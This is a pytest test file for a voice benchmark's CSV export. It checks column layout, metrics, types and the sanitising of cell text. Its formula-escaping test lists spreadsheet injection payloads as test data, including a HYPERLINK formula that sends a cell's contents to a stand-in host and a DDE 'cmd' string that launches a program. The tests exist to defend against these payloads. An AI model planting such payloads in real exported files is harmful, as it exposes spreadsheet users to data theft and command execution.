from __future__ import annotations

import csv
import io
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
from handmade import failed_turn, make_turn
from hypothesis import given
from hypothesis import strategies as st
from recorded_folders import write_rows

from voicebench.events import Phase, ServerTiming
from voicebench.figures.metrics import METRICS, compute
from voicebench.results.csv_rows import COLUMNS, CSV_COLUMNS, quoted, row
from voicebench.turn.timeline import Timeline


def written(turns: list[Timeline]) -> str:
    file = io.StringIO(newline="")
    write_rows(file, turns)
    return file.getvalue()


def unquoted(cell: str) -> str:
    """Undo `quoted` as its documentation says."""
    return cell.removeprefix("'")


def frame(turns: list[Timeline]) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(written(turns)))


TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_the_header_is_what_people_have_built_on() -> None:
    assert CSV_COLUMNS[:9] == (
        "turn",
        "phase",
        "prompt",
        "status",
        "failure_reason",
        "failure_stage",
        "reply_words",
        "first_chunk_text",
        "first_chunk_words",
    )
    assert CSV_COLUMNS[9:-5] == tuple(metric.name for metric in METRICS)
    of_conversations = ("conversation", "conversation_turn", "prompt_tokens", "cached_tokens")
    assert CSV_COLUMNS[-5:] == ("run", *of_conversations)
    assert written([]) == ",".join(CSV_COLUMNS) + "\n"


def test_every_column_says_what_it_holds() -> None:
    assert all(doc for _, doc in COLUMNS)


def test_a_row_holds_the_numbers_of_the_metrics_unrounded() -> None:
    turn = make_turn(tokens=((100.1234567, "Hi"), (133.7, " there")))
    cells = row(turn, 4)
    assert tuple(cells) == CSV_COLUMNS
    assert {name: cells[name] for name in compute(turn)} == compute(turn)
    assert cells["run"] == 4
    assert cells["reply_words"] == 2
    assert cells["first_chunk_words"] == 4
    assert frame([turn])["llm_ttft_ms"][0] == cells["llm_ttft_ms"]


def test_runs_are_the_measured_turns_counted_from_one() -> None:
    phases: tuple[Phase, ...] = ("cold", "warmup", "measured", "measured", "idle")
    turns = [make_turn(number, phase=phase) for number, phase in enumerate(phases, start=1)]
    assert frame(turns)["run"].fillna(0).tolist() == [0, 0, 1, 2, 0]


def test_a_failed_turn_has_its_reason_and_stage_and_what_was_observed() -> None:
    cells = row(failed_turn(reason="no memory"), 1)
    assert (cells["status"], cells["failure_reason"], cells["failure_stage"]) == (
        "failed",
        "no memory",
        "tts",
    )
    assert cells["llm_ttft_ms"] == 100
    assert cells["first_audio_ms"] is None


def test_what_a_turn_cannot_show_is_an_empty_cell_and_never_zero() -> None:
    [line] = list(csv.DictReader(io.StringIO(written([make_turn(tokens=(), chunks=())]))))
    for name in ("llm_ttft_ms", "reply_words", "first_chunk_text", "first_chunk_words"):
        assert line[name] == ""
    assert line["stall_count"] == "0"


def test_pandas_reads_the_right_types_without_options() -> None:
    turns = [make_turn(1), failed_turn(2), make_turn(3, prompt='Say "a, b"\nand c')]
    table = frame(turns)
    assert table["turn"].dtype == np.int64
    assert table["first_audio_ms"].dtype == np.float64
    assert table["first_audio_ms"].isna().tolist() == [False, True, False]
    assert table["phase"].tolist() == ["measured"] * 3
    assert table["prompt"].tolist() == [turn.prompt for turn in turns]
    assert table["failure_reason"].isna().tolist() == [True, False, True]
    assert frame(turns[:1])["stall_count"].dtype == np.int64
    assert table["connect_ms"].dtype == np.float64


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "  =1+1",
        "\n=1",
        "＝1+1",
        "'quoted'",
    ],
)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    [line] = list(csv.DictReader(io.StringIO(written([make_turn(prompt=text)]), newline="")))
    assert line["prompt"] == f"'{text}"
    assert unquoted(line["prompt"]) == text


@pytest.mark.parametrize(
    "text", ["NA", "nan", "None", "null", "", "  ", "42", "1e5", "TRUE", "inf"]
)
def test_a_text_that_reads_like_a_number_or_nothing_stays_a_text_for_pandas(text: str) -> None:
    cell = frame([make_turn(prompt=text)])["prompt"][0]
    assert isinstance(cell, str)
    assert unquoted(cell) == text


def test_a_negative_number_is_no_formula() -> None:
    turn = make_turn()
    negative = Timeline(
        **{name: getattr(turn, name) for name in turn.__dataclass_fields__}
        | {"server_timings": (ServerTiming(500.0),)}
    )
    assert frame([negative])["transport_ms"][0] == pytest.approx(-200)


PRINTING = st.characters(
    exclude_categories=["Cs", "Cc"], exclude_characters=TURNING
) | st.sampled_from("\n\t")


@given(st.text(PRINTING))
def test_any_text_comes_back_from_its_cell(text: str) -> None:
    assert unquoted(quoted(text)) == text


@pytest.mark.slow
@given(st.text(PRINTING, min_size=1))
def test_any_text_comes_back_from_the_file_through_pandas(text: str) -> None:
    assert unquoted(frame([make_turn(prompt=text)])["prompt"][0]) == text


def test_what_no_utf8_file_can_hold_is_replaced() -> None:
    assert quoted("a\ud83d b") == "a� b"
    assert quoted("a\0b") == "a�b"
    assert quoted("a\r\nb\rc") == "a\nb\nc"
    assert quoted("\ud83d\ude00") == "😀"


@given(
    st.text(st.sampled_from([*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), *TURNING, "a"]))
)
def test_no_cell_holds_what_a_terminal_obeys_or_what_turns_the_writing_direction(text: str) -> None:
    cell = quoted(text)
    assert not set(cell) & set(TURNING)
    assert all(character in "\n\t" or character.isprintable() for character in cell)


@pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\ufeff", "\u2066\u200d"])
def test_a_formula_behind_a_character_that_nobody_sees_is_a_formula(hidden: str) -> None:
    assert quoted(f"{hidden}=1+1").startswith("'")


def test_a_turns_place_in_its_conversation_and_its_tokens_have_columns() -> None:
    turn = replace(
        make_turn(), conversation=2, conversation_turn=3, prompt_tokens=90, cached_tokens=0
    )
    (first, second) = csv.DictReader(io.StringIO(written([turn, make_turn(2)])))
    names = ("run", "conversation", "conversation_turn", "prompt_tokens", "cached_tokens")
    assert [first[name] for name in names] == ["1", "2", "3", "90", "0"]
    assert [second[name] for name in names] == ["2", "", "", "", ""]
